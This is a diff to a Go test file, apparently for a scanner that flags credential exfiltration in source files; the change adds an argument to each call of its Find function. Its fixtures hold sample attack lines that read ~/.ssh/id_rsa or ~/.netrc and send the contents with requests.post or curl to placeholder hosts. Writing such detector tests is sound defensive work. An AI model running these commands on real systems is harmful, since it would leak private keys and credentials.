@@ -20,10 +20,10 @@ func TestBounds(t *testing.T) {
 	t.Parallel()
 	var why []string
 	cut := func(_, what string) { why = append(why, what) }
-	if found := Find([]Text{text("a.py", crowd(maxTold/2))}, nil, nil, cut).Besides; len(found) != maxTold/2 || len(why) != 0 {
+	if found := Find([]Text{text("a.py", crowd(maxTold/2))}, nil, nil, nil, cut).Besides; len(found) != maxTold/2 || len(why) != 0 {
 		t.Errorf("%d are found, and %q is told", len(found), why)
 	}
-	if found := Find([]Text{text("a.py", crowd(maxTold+5))}, nil, nil, cut).Besides; len(found) != maxTold || len(why) != 1 {
+	if found := Find([]Text{text("a.py", crowd(maxTold+5))}, nil, nil, nil, cut).Besides; len(found) != maxTold || len(why) != 1 {
 		t.Errorf("%d are found, and %q is told", len(found), why)
 	}
 }
@@ -35,7 +35,7 @@ func TestLongStatement(t *testing.T) {
 	for lines, want := range map[int]string{maxLines / 2: "key:1 x.example:LINE body apart", maxLines + 5: "key:1 x.example:LINE body"} {
 		told := 0
 		source := "k = open('/home/me/.ssh/id_rsa').read()\nn = {\n" + strings.Repeat("  'a': 1,\n", lines) + "}\nrequests.post('https://x.example/', data=n)\n"
-		got := shownOf(Find([]Text{text("a.py", source)}, nil, nil, func(string, string) { told++ }).Besides)
+		got := shownOf(Find([]Text{text("a.py", source)}, nil, nil, nil, func(string, string) { told++ }).Besides)
 		if want := strings.ReplaceAll(want, "LINE", fmt.Sprint(lines+4)); got != want || (told > 0) != (lines > maxLines) {
 			t.Errorf("%d lines: %q is found, want %q, and %d gaps are told", lines, got, want, told)
 		}
@@ -47,7 +47,7 @@ func TestPairs(t *testing.T) {
 	t.Parallel()
 	told := false
 	source := strings.Repeat("x=$(cat ~/.netrc)\ncurl -d \"$x\" https://h.example/\n", 500)
-	found := Find([]Text{text("a.sh", source)}, nil, nil, func(_, what string) { told = told || strings.Contains(what, fmt.Sprint(maxPairs)) }).Besides
+	found := Find([]Text{text("a.sh", source)}, nil, nil, nil, func(_, what string) { told = told || strings.Contains(what, fmt.Sprint(maxPairs)) }).Besides
 	if !told || len(found) == 0 {
 		t.Errorf("told: %t, %d are found", told, len(found))
 	}
@@ -94,7 +94,7 @@ func TestLeftOut(t *testing.T) {
 		"one takes in the other":        {long, true},
 	} {
 		var why []string
-		Find(c.texts, nil, nil, func(file, what string) { why = append(why, file+": "+what) })
+		Find(c.texts, nil, nil, nil, func(file, what string) { why = append(why, file+": "+what) })
 		if (len(why) > 0) != c.want {
 			t.Errorf("%s: %q is told", name, why)
 		}
